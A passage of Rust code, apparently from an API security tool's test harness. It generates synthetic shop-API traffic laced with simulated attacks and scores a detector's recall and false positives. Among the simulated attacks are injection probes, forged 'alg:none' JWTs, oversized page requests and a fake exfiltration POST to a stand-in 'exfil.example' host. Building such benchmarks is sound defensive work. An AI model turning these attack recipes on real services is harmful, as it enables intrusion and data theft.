                    LEAKING_ENDPOINTS[(combo / LEAKED_FIELDS.len()) % LEAKING_ENDPOINTS.len()];
                let times = self.times(intensity, counts(30, 20, 10), start);
                let route = match endpoint {
                    "users" => "/api/v1/users/{id}",
                    "order" => "/api/v1/orders/{id}",
                    "orders" => "/api/v1/orders",
                    "product" => "/api/v1/products/{id}",
                    "products" => "/api/v1/products",
                    _ => "/api/v1/admin/users",
                };
                record.route = Some(route.to_string());
                record.field = Some(field.to_string());
                record.user = None;
                record.address = None;
                for t in times {
                    // Users are the first actors: user `who` is actor `who`.
                    let who = self.rng.below(u64::from(self.config.users)) as u32;
                    let id = 1_000 + who;
                    let step = match endpoint {
                        "users" => {
                            let step = self.step(t, who, "GET", format!("/api/v1/users/{id}"), 200);
                            step.response = Response::User(id);
                            step
                        }
                        "order" => {
                            let step = self.step(t, who, "GET", "/api/v1/orders/1".into(), 200);
                            step.response = Response::Order(1);
                            step
                        }
                        "orders" => {
                            let step = self.step(t, who, "GET", "/api/v1/orders".into(), 200);
                            step.query = Some("limit=20&page=1".into());
                            step.response = Response::Orders(5);
                            step
                        }
                        "product" => {
                            let step = self.step(t, who, "GET", "/api/v1/products/7".into(), 200);
                            step.response = Response::Product(7);
                            step
                        }
                        "products" => {
                            let step = self.step(t, who, "GET", "/api/v1/products".into(), 200);
                            step.query = Some("q=lamp&limit=20".into());
                            step.response = Response::Products(5);
                            step
                        }
                        _ => {
                            let admin = *self.rng.pick(&self.admins.clone());
                            let step =
                                self.step(t, admin, "GET", "/api/v1/admin/users".into(), 200);
                            step.query = Some("limit=50".into());
                            step.response = Response::AdminUsers(5);
                            step
                        }
                    };
                    step.leaks |= leak_bit(field);
                }
            }
            AttackType::Flood => {
                let (n, span) = match intensity {
                    Intensity::Loud => (2_400, 60.0),
                    Intensity::Normal => (1_800, 300.0),
                    Intensity::Slow => (2_400, 16.0 * 3_600.0),
                };
                for i in 0..n {
                    let t = start + span * f64::from(i) / f64::from(n);
                    let term = *self.rng.pick(SEARCH_TERMS);
                    let step = self.step(t, attacker, "GET", "/api/v1/products".into(), 200);
                    step.query = Some(format!("q={}&limit=20", encode_query(term)));
                    step.response = Response::Products(20);
                }
            }
            AttackType::HugePage => {
                let times = self.times(intensity, counts(10, 3, 2), start);
                for t in times {
                    let step = self.step(t, attacker, "GET", "/api/v1/orders".into(), 200);
                    step.query = Some("limit=100000&page=1".into());
                    step.response = Response::Huge(8_000_000);
                    step.latency_ms = 4_500.0;
                }
            }
            AttackType::AdminAccess => {
                let times = self.times(intensity, counts(20, 5, 3), start);
                for (i, t) in times.into_iter().enumerate() {
                    let status = if i % 3 == 2 { 200 } else { 403 };
                    let step = self.step(t, attacker, "GET", "/api/v1/admin/users".into(), status);
                    step.query = Some("limit=50".into());
                    step.response = if status == 200 {
                        Response::AdminUsers(50)
                    } else {
                        Response::Empty
                    };
                }
            }
            AttackType::Ssrf
            | AttackType::SqlInjection
            | AttackType::Xss
            | AttackType::PathTraversal
            | AttackType::CommandInjection
            | AttackType::TemplateInjection
            | AttackType::Jndi => {
                let times = self.times(intensity, counts(30, 5, 4), start);
                for t in times {
                    self.probe(attack, attacker, t);
                }
            }
            AttackType::ShadowEndpoint | AttackType::ZombieEndpoint => {
                let path = if attack == AttackType::ShadowEndpoint {
                    "/api/v1/debug/vars"
                } else {
                    "/api/v1/legacy/export"
                };
                let times = self.times(intensity, counts(10, 3, 2), start);
                for t in times {
                    self.step(t, attacker, "GET", path.into(), 200);
                }
            }
            AttackType::NewThirdParty => {
                let (process, _, _, _) = THIRD_PARTIES[index % THIRD_PARTIES.len()];
                let actor = self.process_actor(process);
                let host = format!("drop-{index}.exfil.example");
                record.user = None;
                record.address = None;
                record.process = Some(process.to_string());
                record.route = Some(host.clone());
                let times = self.times(intensity, counts(10, 3, 1), start);
                for t in times {
                    let step = self.step(t, actor, "POST", "/upload".into(), 200);
                    step.host = Some(host.clone());
                    step.body = Some(r#"{"dump":"..."}"#.into());
                }
            }
        }
        for step in &mut self.steps[first_step..] {
            step.attack = Some(number);
            record.end = record.end.max(step.at / 1_000_000_000);
        }
        self.attacks.push(record);
    }

    /// One injection probe where that payload goes.
    fn probe(&mut self, attack: AttackType, attacker: u32, t: f64) {
        match attack {
            AttackType::SqlInjection => {
                let payload = *self.rng.pick(PAYLOADS_SQL);
                let step = self.step(t, attacker, "GET", "/api/v1/products".into(), 200);
                step.query = Some(format!("q={}&limit=20", encode_query(payload)));
                step.response = Response::Products(0);
            }
            AttackType::Xss | AttackType::TemplateInjection => {
                let payload = if attack == AttackType::Xss {
                    *self.rng.pick(PAYLOADS_XSS)
                } else {
                    *self.rng.pick(PAYLOADS_TEMPLATE)
                };
                let body = format!(
                    r#"{{"product_id":12,"text":{}}}"#,
                    serde_json::Value::from(payload)
                );
                let step = self.step(t, attacker, "POST", "/api/v1/comments".into(), 201);
                step.body = Some(body);
            }
            AttackType::PathTraversal | AttackType::CommandInjection => {
                let payload = if attack == AttackType::PathTraversal {
                    *self.rng.pick(PAYLOADS_TRAVERSAL)
                } else {
                    *self.rng.pick(PAYLOADS_COMMAND)
                };
                let step = self.step(t, attacker, "GET", "/api/v1/files".into(), 400);
                step.query = Some(format!("name={}", encode_query(payload)));
            }
            AttackType::Ssrf => {
                let payload = *self.rng.pick(PAYLOADS_SSRF);
                let body = format!(r#"{{"url":"{payload}","events":["order.created"]}}"#);
                let step = self.step(t, attacker, "POST", "/api/v1/webhooks".into(), 201);
                step.body = Some(body);
            }
            _ => {
                let payload = *self.rng.pick(PAYLOADS_JNDI);
                let header = *self.rng.pick(&["user-agent", "x-api-version"]);
                let step = self.step(t, attacker, "GET", "/api/v1/products/5".into(), 200);
                step.header = Some((header, payload.to_string()));
                step.response = Response::Product(5);
            }
        }
    }
}

/// The bit of a leaked field in `Step::leaks`.
fn leak_bit(field: &str) -> u16 {
    LEAKED_FIELDS
        .iter()
        .position(|f| *f == field)
        .map_or(0, |i| 1 << i)
}

/// Whether `path` is a call to `route` (templates' `{id}` match any segment).
fn route_matches(route: &str, path: &str) -> bool {
    let (mut template, mut actual) = (route.split('/'), path.split('/'));
    loop {
        match (template.next(), actual.next()) {
            (None, None) => return true,
            (Some(t), Some(a)) if t == a || (t.starts_with('{') && !a.is_empty()) => {}
            _ => return false,
        }
    }
}

/// Percent-encodes a query value as a browser would.
fn encode_query(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 3);
    for byte in text.bytes() {
        match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                out.push(char::from(byte))
            }
            b' ' => out.push('+'),
            _ => {
                let _ = write!(out, "%{byte:02X}");
            }
        }
    }
    out
}

impl Scenario {
    pub fn generate(config: ScenarioConfig) -> Scenario {
        let mut builder = Builder {
            rng: Rng::new(config.seed),
            config: config.clone(),
            steps: Vec::new(),
            actors: Vec::new(),
            attacks: Vec::new(),
            order_owner: Vec::new(),
            next_order: 0,
            admins: Vec::new(),
        };
        builder.benign();
        builder.attacks();
        let mut steps = builder.steps;
        steps.sort_by_key(|s| s.at);
        Scenario {
            config,
            steps,
            actors: builder.actors,
            attacks: builder.attacks,
        }
    }

    pub fn len(&self) -> usize {
        self.steps.len()
    }

    pub fn is_empty(&self) -> bool {
        self.steps.is_empty()
    }

    /// Benign calls (not part of any attack).
    pub fn benign_calls(&self) -> usize {
        self.steps.iter().filter(|s| s.attack.is_none()).count()
    }

    /// The `i`th call, as the pipeline would build it, and the attack it belongs to.
    pub fn call(&self, i: usize) -> (ApiCall, Option<u32>) {
        let step = &self.steps[i];
        (self.build(step, i), step.attack)
    }

    fn build(&self, step: &Step, i: usize) -> ApiCall {
        let actor = &self.actors[step.actor as usize];
        let outgoing = step.host.is_some();
        let mut request_headers = HeaderMap::default();
        let mut header = |name: &str, value: String| request_headers.append(name, &value);
        header(
            "host",
            step.host
                .clone()
                .unwrap_or_else(|| format!("shop.example.com:{PORT}")),
        );
        header("user-agent", actor.user_agent.to_string());
        header("accept", "application/json".into());
        header("x-request-id", format!("{i:016x}"));
        match step.credentials {
            Credentials::Own => {
                if let Some(bearer) = &actor.bearer {
                    header("authorization", bearer.clone());
                }
                if let Some(key) = &actor.api_key {
                    header("x-api-key", key.clone());
                }
            }
            Credentials::None => {}
            Credentials::AlgNone => {
                let user = actor.user.as_deref().unwrap_or("someone");
                let token = jwt(
                    r#"{"alg":"none","typ":"JWT"}"#,
                    &format!(r#"{{"sub":"{user}"}}"#),
                );
                header("authorization", format!("Bearer {token}."));
            }
            Credentials::Expired => {
                let user = actor.user.as_deref().unwrap_or("someone");
                header(
                    "authorization",
                    bearer(user, step.at / 1_000_000_000 - 10 * 86_400),
                );
            }
        }
        if let Some((name, value)) = &step.header {
            request_headers.insert(name, value);
        }
        let request_body_bytes = step
            .body
            .clone()
            .map(String::into_bytes)
            .unwrap_or_default();
        if !request_body_bytes.is_empty() {
            request_headers.insert("content-type", "application/json");
        }
        let (response_body_bytes, response_size) = self.response(step);
        let mut response_headers = HeaderMap::default();
        if response_size > 0 {
            response_headers.insert("content-type", "application/json");
        }
        let body_view = |bytes: &[u8], size: u64| {
            (size > 0).then_some(BodyView {
                size,
                preview: None,
                truncated: (bytes.len() as u64) < size,
                decoded_from: None,
                not_decoded: None,
                capture_ends_early: false,
            })
        };
        let (server_address, client_address, role, pid, executable) = if outgoing {
            (
                "52.0.0.10".to_string(),
                SERVER.to_string(),
                Role::Client,
                1_001,
                actor.process.unwrap_or("process"),
            )
        } else {
            (
                SERVER.to_string(),
                actor.address.clone(),
                Role::Server,
                1_000,
                SERVER_PROCESS,
            )
        };
        let (timestamp, realtime_ns) = call_time(step.at);
        ApiCall {
            event_name: "api.call",
            timestamp,
            status: CallStatus::Complete,
            role: Some(role),
            method: Some(step.method.to_string()),
            path: Some(step.path.clone()),
            query: step.query.clone(),
            route: None,
            status_code: Some(step.status),
            interim_status_codes: Vec::new(),
            protocol_name: "http",
            protocol_version: Some("1.1"),
            transport: "tcp",
            server_address: Some(server_address),
            server_port: Some(if outgoing { 443 } else { PORT }),
            client_address: Some(client_address),
            client_port: Some(30_000 + (i % 30_000) as u16),
            tls: outgoing,
            tls_library: None,
            duration_ms: Some(step.latency_ms + 0.5),
            latency_ms: Some(step.latency_ms),
            pid,
            executable_name: Some(executable.to_string()),
            executable_path: None,
            command_args: Default::default(),
            container_id: None,
            pod_uid: None,
            request_body: body_view(&request_body_bytes, request_body_bytes.len() as u64),
            response_body: body_view(&response_body_bytes, response_size),
            request_headers,
            response_headers,
            incomplete: Vec::new(),
            connection: format!("{pid}:{}:{i}", 3 + i % 64),
            start_ns: step.at,
            realtime_ns,
            request_body_bytes,
            response_body_bytes,
        }
    }

    /// A response body (as captured) and its full size.
    fn response(&self, step: &Step) -> (Vec<u8>, u64) {
        let mut body = match &step.response {
            Response::Empty => return (Vec::new(), 0),
            Response::Token => format!(
                r#"{{"access_token":"{}","token_type":"Bearer","expires_in":3600}}"#,
                "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln"
            ),
            Response::Product(id) => format!(
                r#"{{"id":{id},"name":"Product {id}","price":{}.99,"stock":{}}}"#,
                id % 90 + 9,
                id % 40
            ),
            Response::Products(n) => {
                let items: Vec<String> = (0..*n)
                    .map(|k| format!(r#"{{"id":{},"name":"Product {k}","price":19.99}}"#, k + 1))
                    .collect();
                format!(r#"{{"items":[{}],"total":{n}}}"#, items.join(","))
            }
            Response::User(id) => format!(
                r#"{{"id":{id},"name":"User {id}","email":"u{id}@example.com","created_at":"2025-01-02T03:04:05Z"}}"#
            ),
            Response::Order(id) => format!(
                r#"{{"id":{id},"status":"shipped","items":[{{"sku":"SKU-{}","qty":1}}],"total":42.5}}"#,
                id % 5_000
            ),
            Response::Orders(n) => {
                let items: Vec<String> = (0..*n)
                    .map(|k| format!(r#"{{"id":{},"status":"shipped","total":10.0}}"#, k + 1))
                    .collect();
                format!(r#"{{"orders":[{}],"page":1}}"#, items.join(","))
            }
            Response::AdminUsers(n) => {
                let items: Vec<String> = (0..(*n).min(10))
                    .map(|k| {
                        format!(
                            r#"{{"id":{},"email":"u{k}@example.com","disabled":false}}"#,
                            1_000 + k
                        )
                    })
                    .collect();
                format!(r#"{{"users":[{}],"total":{n}}}"#, items.join(","))
            }
            Response::Huge(size) => {
                let row = r#"{"id":1,"status":"shipped","total":10.0},"#;
                let mut text = String::from(r#"{"orders":["#);
                while text.len() < 16 * 1024 {
                    text.push_str(row);
                }
                return (text.into_bytes(), *size);
            }
        };
        for (i, field) in LEAKED_FIELDS.iter().enumerate() {
            if step.leaks & (1 << i) != 0 {
                // Into the top-level object: `{..., "password_hash": "..."}`.
                body.pop();
                let _ = write!(body, r#","{field}":"x9f8e7d6c5b4a3""#);
                body.push('}');
            }
        }
        let size = body.len() as u64;
        (body.into_bytes(), size)
    }
}

/// How well the detector did on a scenario.
#[derive(Debug, Clone, Default)]
pub struct Score {
    /// (attack, intensity) → (detected, instances).
    pub recall: HashMap<(AttackType, Intensity), (u32, u32)>,
    pub benign_calls: u64,
    pub attack_calls: u64,
    /// Findings about benign traffic.
    pub false_positives: Vec<Finding>,
    /// Attacks no finding matched.
    pub missed: Vec<Attack>,
    pub findings: u64,
    /// CPU time the detector spent on `timed_calls` calls: every call but those in the
    /// chunks where periodic maintenance ran (see [`Score::throughput`]).
    pub timed_seconds: f64,
    pub timed_calls: u64,
    /// Maintenance runs and their wall time.
    pub maintenance_seconds: f64,
    pub maintenance_runs: u64,
    /// Principal × endpoint pairs tracked at the end (what maintenance walks).
    pub pairs: usize,
    pub calls: u64,
}

impl Score {
    /// Detected share of the instances of `attack` at `intensity`.
    pub fn recall_of(&self, attack: AttackType, intensity: Intensity) -> Option<f64> {
        let (found, total) = *self.recall.get(&(attack, intensity))?;
        (total > 0).then(|| f64::from(found) / f64::from(total))
    }

    /// Detected share of all instances in an OWASP category at `intensity`.
    pub fn category_recall(&self, category: &str, intensity: Intensity) -> Option<f64> {
        let (found, total) = AttackType::ALL
            .iter()
            .filter(|a| a.category() == category)
            .filter_map(|a| self.recall.get(&(*a, intensity)))
            .fold((0, 0), |(f, t), (found, total)| (f + found, t + total));
        (total > 0).then(|| f64::from(found) / f64::from(total))
    }

    /// False positives per 10,000 benign calls.
    pub fn false_positive_rate(&self) -> f64 {
        self.false_positives.len() as f64 * 10_000.0 / self.benign_calls.max(1) as f64
    }

    /// Calls per second of CPU the detector alone took (one core), on its per-call work:
    /// maintenance runs every 15 minutes of traffic whatever the rate, and this scenario
    /// squeezes two days into a few hundred thousand calls, so charging it per call would
    /// charge each a thousand times what a busy host pays (it is reported on its own).
    pub fn throughput(&self) -> f64 {
        self.timed_calls as f64 / self.timed_seconds.max(1e-9)
    }
}

/// Calls timed together: CPU clocks cost a system call, so they are read per chunk; chunks
/// small enough that leaving out the few holding a maintenance run leaves most calls timed.
const TIMED_CHUNK: usize = 256;

/// CPU time of this thread: what the detector costs, whatever else the machine is doing.
fn thread_cpu_ns() -> u64 {
    crate::facts::clock_ns(libc::CLOCK_THREAD_CPUTIME_ID)
}

/// Findings may come this long after an attack's last call (maintenance runs every few
/// minutes) and still be its own.
const MATCH_SLACK_SECS: u64 = 600;

impl Scenario {
    /// Replay through the inventory (with [`SPEC`]) and a detector with `config`, and score.
    pub fn run(&self, config: DetectConfig) -> Score {
        self.replay(config, true)
    }

    /// The same with the benign calls alone: what the detector costs on ordinary traffic
    /// (attack calls take the alerting path, and this scenario is a third attacks).
    pub fn run_benign(&self, config: DetectConfig) -> Score {
        self.replay(config, false)
    }

    fn replay(&self, config: DetectConfig, with_attacks: bool) -> Score {
        let spec = ApiSpec::parse(SPEC, "shop.json").ok();
        let mut inventory = Inventory::in_memory().with_specs(
            spec.into_iter()
                .map(|spec| SpecBinding {
                    service: None,
                    spec,
                })
                .collect(),
        );
        let key = HashKey::from_bytes([42; 32]);
        // Evidence hidden as the agent hides it, whose detector always has the redactor.
        let redactor = Redactor::new(RedactionMode::default());
        let Ok(mut detector) = Detector::new(config, key, Some(redactor), None) else {
            return Score::default();
        };
        let mut findings: Vec<Finding> = Vec::new();
        let mut score = Score::default();
        let steps: Vec<usize> = (0..self.steps.len())
            .filter(|&i| with_attacks || self.steps[i].attack.is_none())
            .collect();
        let mut prepared: Vec<(ApiCall, Vec<Output>)> = Vec::with_capacity(TIMED_CHUNK);
        for chunk in steps.chunks(TIMED_CHUNK) {
            prepared.clear();
            for &i in chunk {
                let (mut call, attack) = self.call(i);
                if attack.is_some() {
                    score.attack_calls += 1;
                } else {
                    score.benign_calls += 1;
                }
                // What the inventory says about a call is in the output the detector sees.
                let mut out = Vec::new();
                inventory.analyze(&mut call, &mut out);
                prepared.push((call, out));
            }
            let runs = detector.stats().maintenance_runs;
            let started = thread_cpu_ns();
            for (call, out) in &mut prepared {
                detector.analyze(call, out);
            }
            let spent = thread_cpu_ns().saturating_sub(started);
            if detector.stats().maintenance_runs == runs {
                score.timed_calls += chunk.len() as u64;
                score.timed_seconds += spent as f64 / 1e9;
            }
            score.calls += chunk.len() as u64;
            for (_, out) in prepared.drain(..) {
                findings.extend(out.into_iter().filter_map(|output| match output {
                    Output::Finding(finding) => Some(finding),
                    _ => None,
                }));
            }
            if let Some(&last) = chunk.last() {
                let mut out = Vec::new();
                detector.tick(self.steps[last].at, &mut out);
            }
        }
        let mut out = Vec::new();
        detector.finish(&mut out);
        let stats = detector.stats();
        score.maintenance_seconds = stats.maintenance_ns as f64 / 1e9;
        score.maintenance_runs = stats.maintenance_runs;
        score.pairs = detector.subjects.pairs;
        score.findings = findings.len() as u64;
        self.score(&findings, &mut score);
        score
    }

    fn score(&self, findings: &[Finding], score: &mut Score) {
        let mut detected = vec![false; self.attacks.len()];
        let attackers: std::collections::HashSet<&str> = self
            .attacks
            .iter()
            .flat_map(|a| [a.user.as_deref(), a.address.as_deref()])
            .flatten()
            .collect();
        for finding in findings {
            let at = parse_rfc3339(&finding.timestamp).unwrap_or(0) / 1_000_000_000;
            let mut matched = false;
            for (i, attack) in self.attacks.iter().enumerate() {
                if attack.attack.kind().name() != finding.kind
                    || at < attack.start
                    || at > attack.end + MATCH_SLACK_SECS
                {
                    continue;
                }
                let who = match attack.attack {
                    AttackType::FieldExposure => {
                        finding.endpoint.route == attack.route
                            && finding
                                .evidence
                                .iter()
                                .any(|e| e.location.name == attack.field)
                    }
                    AttackType::NewThirdParty => finding
                        .evidence
                        .iter()
                        .any(|e| Some(&e.value) == attack.route.as_ref()),
                    _ => {
                        (attack.user.is_some() && finding.caller.user == attack.user)
                            || (attack.address.is_some()
                                && finding.caller.address == attack.address)
                    }
                };
                if who {
                    detected[i] = true;
                    matched = true;
                }
            }
            // A finding about an attacker that is not the attack's own (a BOLA walker's rate,
            // say) is still about an attack, not about benign traffic.
            let about_attacker = finding
                .caller
                .user
                .as_deref()
                .is_some_and(|u| attackers.contains(u))
                || finding
                    .caller
                    .address
                    .as_deref()
                    .is_some_and(|a| attackers.contains(a));
            if !matched && !about_attacker {
                score.false_positives.push(finding.clone());
            }
        }
        for (attack, found) in self.attacks.iter().zip(detected) {
            let entry = score
                .recall
                .entry((attack.attack, attack.intensity))
                .or_default();
            entry.0 += u32::from(found);
            entry.1 += 1;
            if !found {
                score.missed.push(attack.clone());
            }
        }
    }
}

/// A table of the score: recall per attack and category, false positives, throughput.
pub fn report(score: &Score) -> String {
    let mut out = String::new();
    let recall = |r: Option<f64>| r.map_or_else(|| "  -  ".to_string(), |r| format!("{r:.3}"));
    let _ = writeln!(
        out,
        "{:<26} {:>11} {:>7} {:>7} {:>7}",
        "attack", "category", "loud", "normal", "slow"
    );
    for attack in AttackType::ALL {
        let _ = writeln!(
            out,
            "{:<26} {:>11} {:>7} {:>7} {:>7}",
            attack.name(),
            attack.category(),
            recall(score.recall_of(attack, Intensity::Loud)),
            recall(score.recall_of(attack, Intensity::Normal)),
            recall(score.recall_of(attack, Intensity::Slow)),
        );
    }
    let mut categories: Vec<&str> = AttackType::ALL.iter().map(|a| a.category()).collect();
    categories.sort_unstable();
    categories.dedup();
    let _ = writeln!(out);
    for category in categories {
        let _ = writeln!(
            out,
            "{:<26} {:>11} {:>7} {:>7} {:>7}",
            "category",
            category,
            recall(score.category_recall(category, Intensity::Loud)),
            recall(score.category_recall(category, Intensity::Normal)),
            recall(score.category_recall(category, Intensity::Slow)),
        );
    }
    let _ = writeln!(
        out,
        "\nbenign calls {}, attack calls {}, findings {}, false positives {} ({:.3} per 10,000 benign calls)",
        score.benign_calls,
        score.attack_calls,
        score.findings,
        score.false_positives.len(),
        score.false_positive_rate()
    );
    for attack in score.missed.iter().take(20) {
        let _ = writeln!(
            out,
            "  missed: {} ({}) from {} to {} by {:?} {:?} {:?} {:?}",
            attack.attack.name(),
            attack.intensity.name(),
            rfc3339(attack.start * 1_000_000_000),
            rfc3339(attack.end * 1_000_000_000),
            attack.user,
            attack.address,
            attack.route,
            attack.field
        );
    }
    for finding in score.false_positives.iter().take(20) {
        let _ = writeln!(
            out,
            "  false positive: {} {:?} {} {:?} {:?}: {}",
            finding.kind,
            finding.detail_type,
            finding.endpoint.route.as_deref().unwrap_or("?"),
            finding.caller.user,
            finding.caller.address,
            finding.reason
        );
    }
    out
}
